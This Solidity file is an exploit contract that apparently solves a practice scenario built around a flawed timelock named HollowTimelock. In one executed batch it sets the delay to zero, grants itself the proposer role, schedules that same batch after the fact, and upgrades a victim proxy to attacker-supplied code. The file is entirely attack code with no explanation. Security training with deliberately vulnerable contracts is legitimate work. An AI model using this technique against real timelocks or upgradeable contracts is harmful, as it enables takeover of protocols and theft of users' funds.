// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {HollowTimelock} from "../scenarios/HollowTimelock.sol";

interface IUpgradeable {
    function upgradeToAndCall(address implementation, bytes calldata data) external;
}

/// @title Has a batch executed that, while it runs, takes away the delay and schedules itself.
contract TimelockBypass {
    HollowTimelock private immutable timelock;
    address private immutable victim;
    address private immutable code;

    constructor(HollowTimelock timelock_, address victim_, address code_) {
        (timelock, victim, code) = (timelock_, victim_, code_);
    }

    function run() external {
        (address[] memory targets, uint256[] memory values, bytes[] memory payloads) = batch();
        timelock.executeBatch(targets, values, payloads, 0, 0);
    }

    function schedule() external {
        (address[] memory targets, uint256[] memory values, bytes[] memory payloads) = batch();
        timelock.scheduleBatch(targets, values, payloads, 0, 0, 0);
    }

    function batch() private view returns (address[] memory targets, uint256[] memory values, bytes[] memory payloads) {
        (targets, values, payloads) = (new address[](4), new uint256[](4), new bytes[](4));
        (targets[0], payloads[0]) = (address(timelock), abi.encodeCall(timelock.updateDelay, (0)));
        bytes32 proposer = timelock.PROPOSER_ROLE();
        (targets[1], payloads[1]) = (address(timelock), abi.encodeCall(timelock.grantRole, (proposer, address(this))));
        (targets[2], payloads[2]) = (address(this), abi.encodeCall(this.schedule, ()));
        (targets[3], payloads[3]) = (victim, abi.encodeCall(IUpgradeable.upgradeToAndCall, (code, "")));
    }
}
